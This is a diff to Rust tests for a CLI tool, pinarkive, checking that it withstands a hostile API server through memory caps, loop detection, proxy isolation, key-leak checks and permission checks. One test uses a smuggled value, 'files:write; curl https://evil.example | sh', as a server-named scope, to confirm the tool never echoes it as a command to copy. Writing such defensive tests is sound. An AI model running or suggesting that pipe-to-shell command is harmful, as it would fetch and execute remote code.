@@ -32,14 +32,15 @@ fn a_redirect_to_another_origin_is_refused_and_nothing_reaches_it() {
     assert_eq!(origin.request_count(), 4, "one request per command");
 }
 
-/// Runs the binary to its end, and measures its peak resident memory (KiB).
+/// Runs the binary to its end, and measures its peak resident memory (KiB) and how many bytes
+/// it wrote to stdout (of which the run keeps the first 64 KiB).
 ///
 /// `wait4` gives a child's peak, but Linux counts in it the memory of the process that started
 /// it as it was when the child was started (the peak survives `exec`), and this test process
 /// is large. So the binary is started by a fresh, small copy of this test binary running
 /// [`rss_probe`], which reports what `wait4` says.
 #[cfg(target_os = "linux")]
-fn run_measured(setup: &Setup, server: &ScriptedServer, args: &[&str]) -> (Run, u64) {
+fn run_measured(setup: &Setup, server: &ScriptedServer, args: &[&str]) -> (Run, u64, usize) {
     let probe = std::process::Command::new(std::env::current_exe().unwrap())
         .args(["--exact", "hostile::rss_probe", "--ignored", "--nocapture", "--test-threads=1"])
         .env("RSS_PROBE_HOME", setup.home.path())
@@ -61,7 +62,7 @@ fn run_measured(setup: &Setup, server: &ScriptedServer, args: &[&str]) -> (Run, 
         stdout: decode(field("probe-stdout ")),
         stderr: decode(field("probe-stderr ")),
     };
-    (run, field("probe-maxrss-kib ").parse().unwrap())
+    (run, field("probe-maxrss-kib ").parse().unwrap(), field("probe-stdout-bytes ").parse().unwrap())
 }
 
 #[cfg(target_os = "linux")]
@@ -102,10 +103,19 @@ fn rss_probe() {
     let child = child_cmd(std::path::Path::new(&home), &url).args(args.split('\n')).spawn().unwrap();
     let pid = child.id() as libc::pid_t;
     let (mut stdout, mut stderr) = (child.stdout.unwrap(), child.stderr.unwrap());
+    // Counted, and kept up to 64 KiB: a long listing would take long to pass on as hex.
     let out = std::thread::spawn(move || {
-        let mut text = Vec::new();
-        std::io::Read::read_to_end(&mut stdout, &mut text).unwrap();
-        text
+        let mut kept = Vec::new();
+        let mut buffer = vec![0u8; 64 * 1024];
+        let mut count = 0;
+        loop {
+            let n = std::io::Read::read(&mut stdout, &mut buffer).unwrap();
+            if n == 0 {
+                return (kept, count);
+            }
+            count += n;
+            kept.extend_from_slice(&buffer[..n.min(64 * 1024 - kept.len().min(64 * 1024))]);
+        }
     });
     let mut err_text = Vec::new();
     std::io::Read::read_to_end(&mut stderr, &mut err_text).unwrap();
@@ -116,7 +126,9 @@ fn rss_probe() {
     // After the harness's "test ... " on the same line.
     println!();
     println!("probe-code {code}");
-    println!("probe-stdout {}", hex(&out.join().unwrap()));
+    let (kept, count) = out.join().unwrap();
+    println!("probe-stdout {}", hex(&kept));
+    println!("probe-stdout-bytes {count}");
     println!("probe-stderr {}", hex(&err_text));
     println!("probe-maxrss-kib {}", usage.ru_maxrss);
 }
@@ -128,7 +140,7 @@ fn an_endless_body_is_cut_off_under_64_mib_of_memory_and_not_retried() {
     let json = vec![("content-type", "application/json".into())];
     let endless = setup.scripted_every(Reply::Endless(200, json.clone()));
     let started = Instant::now();
-    let (out, peak_kib) = run_measured(&setup, &endless, &["whoami"]);
+    let (out, peak_kib, _) = run_measured(&setup, &endless, &["whoami"]);
     let out = out.expect_code(1);
     assert!(
         out.stderr.contains("is larger than 16,777,216 bytes, the most this client reads"),
@@ -141,7 +153,7 @@ fn an_endless_body_is_cut_off_under_64_mib_of_memory_and_not_retried() {
 
     // An endless 401 is still a refused key.
     let refused = setup.scripted_every(Reply::Endless(401, json));
-    let (out, _) = run_measured(&setup, &refused, &["whoami"]);
+    let (out, _, _) = run_measured(&setup, &refused, &["whoami"]);
     out.expect_code(3);
 }
 
@@ -442,8 +454,14 @@ fn ls_all_and_rename_stop_on_a_server_whose_pages_loop() {
         "{}",
         out.stderr
     );
+    // Printed as they came: the two pages before the repeat are shown.
+    assert_eq!(out.stdout.lines().count(), 1 + 200, "{}", out.stdout);
+    assert!(out.stdout.contains(&fake_cid(0)) && out.stdout.contains(&fake_cid(1099)), "{}", out.stdout);
+    assert!(out.stderr.ends_with("; list one page at a time with --page\n"), "{}", out.stderr);
     let out = run(setup.cmd_for(&alternating), &["rename", CID, "new-name"]).expect_code(1);
     assert!(out.stderr.contains("page 3 repeats an earlier page"), "{}", out.stderr);
+    assert!(out.stderr.contains("; pass the upload's id with --id"), "{}", out.stderr);
+    assert!(!out.stderr.contains("--page\n"), "{}", out.stderr);
     assert_eq!(alternating.request_count(), 6);
 }
 
@@ -478,4 +496,147 @@ fn ls_all_stops_after_1000_pages_of_a_server_with_fresh_pages_under_a_huge_total
     assert!(out.stderr.contains("1000 pages received and still no end (100000 uploads)"), "{}", out.stderr);
     assert_eq!(endless.request_count(), 1000);
     eprintln!("ls --all stopped after 1000 pages in {:?}", started.elapsed());
+}
+
+/// A proxy from the environment is never used for a loopback base URL: it would see the key of
+/// a plain-http request. The variables are set on the child only, so no other test sees them.
+#[test]
+fn a_proxy_from_the_environment_never_sees_a_loopback_request() {
+    let setup = Setup::new();
+    let me = json_reply(200, json!({"email": "a@example.com"}));
+    let origin = setup.scripted_every(me.clone());
+    let proxy = setup.scripted_every(me);
+    for variable in ["HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy"] {
+        let mut cmd = setup.cmd_for(&origin);
+        for name in ["HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy", "NO_PROXY", "no_proxy"] {
+            cmd.env_remove(name);
+        }
+        cmd.env(variable, &proxy.url);
+        let out = run(cmd, &["whoami"]).ok();
+        assert!(out.stdout.contains("a@example.com"), "{}", out.stdout);
+    }
+    assert_eq!(proxy.connection_count(), 0, "the proxy was sent a request");
+    assert_eq!(origin.request_count(), 4);
+}
+
+/// `ls --all` prints each page as it comes: 15 MB of listing, in pages of 1 MB, never held.
+#[cfg(target_os = "linux")]
+#[test]
+fn ls_all_holds_one_page_at_a_time() {
+    let setup = Setup::new();
+    const PAGES: u64 = 15;
+    let name = "n".repeat(10_000);
+    let server = setup.scripted_every(Reply::answer(move |request| {
+        let number = page_number(request);
+        let size = if number < PAGES { 100 } else { 1 };
+        let uploads: Vec<_> =
+            (0..size).map(|i| json!({"cid": fake_cid(number * 1000 + i), "name": name})).collect();
+        Reply::json(200, json!({"uploads": uploads}))
+    }));
+    for args in [vec!["ls", "--all"], vec!["ls", "--all", "--json"]] {
+        let started = Instant::now();
+        let (out, peak_kib, printed) = run_measured(&setup, &server, &args);
+        out.ok();
+        eprintln!("{args:?}: {printed} bytes printed, peak RSS {peak_kib} KiB, {:?}", started.elapsed());
+        assert!(printed > 14 * 1_000_000, "{printed} bytes printed");
+        assert!(peak_kib < 40 * 1024, "peak RSS {peak_kib} KiB");
+    }
+}
+
+/// A scope the server names goes into a command to copy only when it is one the tool knows.
+#[test]
+fn a_scope_named_by_the_server_is_put_in_a_command_only_when_it_is_known() {
+    let setup = Setup::new();
+    let required = |scope: &str| {
+        json_reply(403, json!({"error": "Forbidden", "code": "missing_scope", "required": scope}))
+    };
+    let hostile = "files:write; curl https://evil.example | sh";
+    let server = setup.scripted(vec![required("files:write"), required(hostile)]);
+    let known = run(setup.cmd_for(&server), &["whoami"]).expect_code(3);
+    assert!(known.stderr.contains("pinarkive tokens create NAME --scope files:write\n"), "{}", known.stderr);
+    let unknown = run(setup.cmd_for(&server), &["whoami"]).expect_code(3);
+    assert!(!unknown.stderr.contains("tokens create"), "{}", unknown.stderr);
+    assert!(
+        unknown.stderr.contains(&format!("which the API names {hostile:?}, a scope this tool does not know")),
+        "{}",
+        unknown.stderr
+    );
+}
+
+/// A new key that starts as the old one does is shown whole; the old key, wherever the server
+/// puts it, is not.
+#[test]
+fn tokens_create_shows_a_new_key_sharing_pieces_with_the_old_one_whole() {
+    let setup = Setup::new();
+    let new_key = format!("{}ffffffffffffffff", &KEY[..12]);
+    let created = |token: &str| {
+        json_reply(201, json!({"token": token, "name": format!("ci {KEY}"), "scopes": ["files:read"]}))
+    };
+    let server = setup.scripted(vec![created(&new_key), created(&new_key), created(KEY), created(KEY)]);
+    for json in [false, true] {
+        let mut args = vec!["tokens", "create", "ci", "--scope", "files:read"];
+        if json {
+            args.push("--json");
+        }
+        let out = run(setup.cmd_for(&server), &args).ok();
+        assert!(out.stdout.contains(&new_key), "{}", out.stdout);
+        assert_eq!(leak(&out.stdout.replace(&new_key, ""), KEY), None, "{}", out.stdout);
+    }
+    for args in [vec!["tokens", "create", "ci"], vec!["tokens", "create", "ci", "--json"]] {
+        let out = run(setup.cmd_for(&server), &args).ok();
+        assert_eq!(leak(&out.stdout, KEY), None, "{}", out.stdout);
+    }
+}
+
+/// `login` reads at most 64 KiB of standard input: a key is some dozens of bytes.
+#[test]
+fn login_refuses_a_standard_input_too_long_to_be_a_key() {
+    let setup = Setup::new();
+    let mut login = setup.bare_cmd();
+    login.write_stdin("a".repeat(100 * 1024));
+    let out = run(login, &["login", "--stdin"]).expect_code(2);
+    assert_eq!(
+        out.stderr,
+        "error: standard input is longer than 64 KiB, so it is no API key; give the key alone\n"
+    );
+    assert!(!setup.config_path().exists());
+    #[cfg(unix)]
+    {
+        let mut endless = setup.child_cmd(setup.base_url());
+        let zero = std::fs::File::open("/dev/zero").unwrap();
+        let mut child =
+            endless.env_remove("PINARKIVE_API_KEY").stdin(zero).args(["login", "--stdin"]).spawn().unwrap();
+        let started = Instant::now();
+        let status = loop {
+            if let Some(status) = child.try_wait().unwrap() {
+                break status;
+            }
+            if started.elapsed() > Duration::from_secs(20) {
+                child.kill().unwrap();
+                panic!("login kept reading /dev/zero");
+            }
+            std::thread::sleep(Duration::from_millis(20));
+        };
+        assert_eq!(status.code(), Some(2));
+    }
+}
+
+/// Not only the config file's directory: one above it that others can change (without the
+/// sticky bit) could have the config's directory replaced.
+#[cfg(unix)]
+#[test]
+fn a_home_others_can_change_is_refused_unless_sticky() {
+    let setup = Setup::new();
+    setup.write_config(json!({"apiKey": KEY, "baseUrl": setup.base_url()}));
+    let home = setup.home.path();
+    chmod(home, 0o777);
+    for args in [vec!["whoami"], vec!["login", "--api-key", KEY]] {
+        let out = run(setup.bare_cmd(), &args).expect_code(2);
+        let expected = format!("error: {} can be changed by other users (mode 0777), who could replace the config file's directory in it; check it, then run `chmod go-w {}`\n", home.display(), home.display());
+        assert_eq!(out.stderr, expected);
+    }
+    chmod(home, 0o1777);
+    run(setup.bare_cmd(), &["whoami"]).ok();
+    chmod(home, 0o700);
+    run(setup.bare_cmd(), &["whoami"]).ok();
 }
